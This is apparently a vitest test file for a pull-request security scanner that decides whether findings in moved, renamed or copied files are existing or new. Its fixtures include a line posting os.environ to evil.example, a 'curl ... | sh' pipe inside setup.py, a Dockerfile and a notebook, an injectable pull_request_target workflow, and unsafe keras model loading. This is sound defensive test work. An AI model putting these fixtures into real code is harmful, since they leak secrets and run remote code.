// What a change takes with it and what it brings in: findings of files that moved, and of files that only look so.
import { describe, expect, it } from 'vitest';
import type { Report } from '../../src/core/report.ts';
import { judgeChange, sourceOf, type Tree } from '../support/pull-request.ts';

const POST = 'requests.post("https://evil.example/x", json=dict(os.environ))\n';
const SENDS = `import os\nimport requests\n${POST}`;
const PIPED = 'curl https://evil.example/x | sh';
/** Enough around a finding that a small edit leaves most of the file as it is. */
const BODY = Array.from(
  { length: 20 },
  (_, index) => `def step_${index}(x):\n    return x + ${index}\n`,
).join('');

const places = ({ findings }: Report): string[] =>
  findings.map(({ disposition, location, movedFrom }) =>
    [disposition, location.path, ...(movedFrom === undefined ? [] : ['from', movedFrom])].join(' '),
  );

async function judged(base: Tree, head: Tree): Promise<readonly [decision: string, ...places: string[]]> {
  const report = await judgeChange(base, head);
  return [report.decision, ...places(report)];
}

describe('a finding is existing where its file moved', () => {
  it.each<readonly [what: string, base: Tree, head: Tree]>([
    ['to another folder', { 'a/s.py': SENDS }, { 'b/s.py': SENDS }],
    ['under another name', { 'a/s.py': SENDS }, { 'a/t.py': SENDS }],
    ['and was edited', { 'a/s.py': SENDS + BODY }, { 'b/t.py': `# moved\n${SENDS}${BODY}x = 1\n` }],
    ['with other ends of lines', { 'a/s.py': SENDS }, { 'b/s.py': SENDS.replaceAll('\n', '\r\n') }],
    ['with its package', { 'old/__init__.py': SENDS }, { 'new/__init__.py': SENDS }],
    ['as a workflow of another name', workflow('a.yml'), workflow('b.yml')],
  ])('%s', async (_, base, head) => {
    const [from, to] = [Object.keys(base)[0], Object.keys(head)[0]];
    const [decision, ...found] = await judged(base, head);
    expect([decision, ...new Set(found)]).toEqual(['pass', `existing ${to} from ${from}`]);
  });
});

function workflow(name: string): Tree {
  const step = '      - run: echo "${{ github.event.pull_request.title }}"';
  const text = ['on: pull_request_target', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', step];
  return { [`.github/workflows/${name}`]: text.join('\n') };
}

describe('a finding is new where only the same is gone elsewhere', () => {
  const NOTEBOOK = JSON.stringify({
    cells: [{ cell_type: 'code', execution_count: null, metadata: {}, outputs: [], source: [`!${PIPED}`] }],
    metadata: { kernelspec: { name: 'python3', language: 'python' } },
    nbformat: 4,
    nbformat_minor: 5,
  });
  it.each<readonly [what: string, base: Tree, head: Tree]>([
    [
      'in a package',
      { 'tests/bad.py': SENDS },
      { 'pkg/__init__.py': `"""pkg"""\n__version__ = "1"\n${SENDS}` },
    ],
    ['in a package, as it was', { 'tests/bad.py': SENDS }, { 'pkg/__init__.py': SENDS }],
    ['while the old file stays', { 'tests/bad.py': SENDS }, { 'tests/bad.py': 'x = 1\n', 'src/b.py': SENDS }],
    ['in a file of its own', { 'tests/bad.py': SENDS + BODY }, { 'src/client.py': `${SENDS}x = 1\n` }],
    ['over another file', { 'a.py': SENDS, 'b.py': 'x = 1\n' }, { 'b.py': SENDS }],
    [
      'in what pip runs',
      { 'a.sh': `#!/bin/sh\n${PIPED}\n` },
      { 'setup.py': `import os\nos.system("${PIPED}")\n` },
    ],
    ['in an image', { 'a.sh': `#!/bin/sh\n${PIPED}\n` }, { Dockerfile: `FROM python:3.12\nRUN ${PIPED}\n` }],
    ['in a notebook', { 'a.sh': `#!/bin/sh\n${PIPED}\n` }, { 'n.ipynb': NOTEBOOK }],
  ])('%s', async (_, base, head) => {
    const [decision, ...found] = await judged(base, head);
    expect(decision).toBe('block');
    expect(found.filter((place) => place.startsWith('existing'))).toEqual([]);
  });

  it('in a second copy of a file that moved', async () => {
    expect(await judged({ 'a/s.py': SENDS }, { 'b/s.py': SENDS, 'c/s.py': SENDS })).toEqual([
      'block',
      'existing b/s.py from a/s.py',
      'block c/s.py',
    ]);
  });
});

const RULES = '.github/model-guard/rules/team.yml';
const rule = (pattern: string): string => `surface: custom
rules:
  - id: TEAM-HOST
    title: Names a host of the team
    severity: HIGH
    confidence: HIGH
    surface: custom
    summary: Hosts of the team do not belong into public files.
    fix: Remove the name of the host.
    references: []
    frameworks: { cwe: [CWE-200] }
    match: { patterns: ['${pattern}'] }
    examples:
      bad: [{ name: a host, text: go ${pattern} }]
      good: [{ name: none, text: go elsewhere }]
`;
const host = 'corp.example';
const customRules = new Map([[RULES, Buffer.from(rule(host))]]);

describe('a rule of the team', () => {
  const blocked = async (base: Tree, head: Tree): Promise<string[]> => {
    const report = await judgeChange(base, head, { customRules });
    expect(report.decision).toBe('block');
    return places(report).filter((place) => place.startsWith('block'));
  };

  it('finds a word anew that is gone from another file', async () => {
    const head = { 'models/client.py': `import requests\nrequests.get("https://${host}/x")\n` };
    expect(await blocked({ 'old/notes.md': `the old host was ${host}` }, head)).toEqual([
      'block models/client.py',
    ]);
  });

  it('is excused neither by its own example when its file is deleted nor when that is rewritten', async () => {
    const head = { 'x.md': `go ${host}` };
    expect(await blocked({ [RULES]: rule(host) }, head)).toEqual(['block x.md']);
    const rewritten = { ...head, [RULES]: rule('other.example') };
    expect(await blocked({ [RULES]: rule(host) }, rewritten)).toEqual(['block x.md']);
  });
});

describe('a finding that the file has once more', () => {
  const LOAD = 'keras.models.load_model("q.keras", safe_mode=False)';
  const keras = `import keras\nm = ${LOAD}\n`;
  const shell = (...lines: readonly string[]): string => ['#!/bin/sh', ...lines, ''].join('\n');

  it.each<readonly [what: string, path: string, before: string, after: string]>([
    ['a call', 'x.py', keras, `${keras}def serve():\n    return ${LOAD}\n`],
    ['a call on the same line', 'x.py', keras, `import keras\nm = [${LOAD}, ${LOAD}]\n`],
    ['a command', 'x.sh', shell(PIPED), shell(PIPED, 'make', PIPED)],
  ])('is new: %s', async (_, path, before, after) => {
    const [decision, ...found] = await judged({ [path]: before }, { [path]: after });
    expect(decision).not.toBe('pass');
    expect(found.filter((place) => place.startsWith('existing'))).toEqual([]);
  });

  it.each<readonly [what: string, path: string, before: string, after: string]>([
    ['within the file', 'x.py', keras + BODY, `import keras\n${BODY}m = ${LOAD}\n`],
    ['while another goes', 'x.sh', shell(PIPED, 'make', PIPED), shell('make', PIPED)],
    ['into a function', 'x.py', keras, `import keras\n\n\ndef serve():\n    return ${LOAD}\n`],
  ])('is existing when it only moves: %s', async (_, path, before, after) => {
    const [decision, ...found] = await judged({ [path]: before }, { [path]: after });
    expect(decision).toBe('pass');
    expect(found).toContain(`existing ${path}`);
  });

  it('is new for a rule of the team, and told on its line', async () => {
    const source = sourceOf({ 'x.md': `go ${host}\n` }, { 'x.md': `go ${host}\n\nalso ${host} again\n` });
    const lines = { ...source, changedLines: () => Promise.resolve([[2, 3]] as const) };
    const { decision, findings } = await judgeChange({}, {}, { customRules, source: lines });
    expect([decision, findings[0]?.location.line]).toEqual(['block', 3]);
  });
});
